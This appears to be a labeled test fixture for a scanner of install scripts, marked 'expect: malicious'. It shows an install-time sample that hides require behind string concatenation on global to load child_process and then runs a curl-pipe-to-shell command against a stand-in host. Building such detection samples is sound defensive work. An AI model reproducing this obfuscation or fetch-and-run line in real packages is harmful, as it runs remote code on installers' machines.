// when: install
// expect: malicious
// source: install scripts that reach require through a computed property of global, out of reach of a plain text search
const cp = global['req' + 'uire']('child' + '_process');
cp.exec('curl -s https://x.invalid/a.sh | sh');
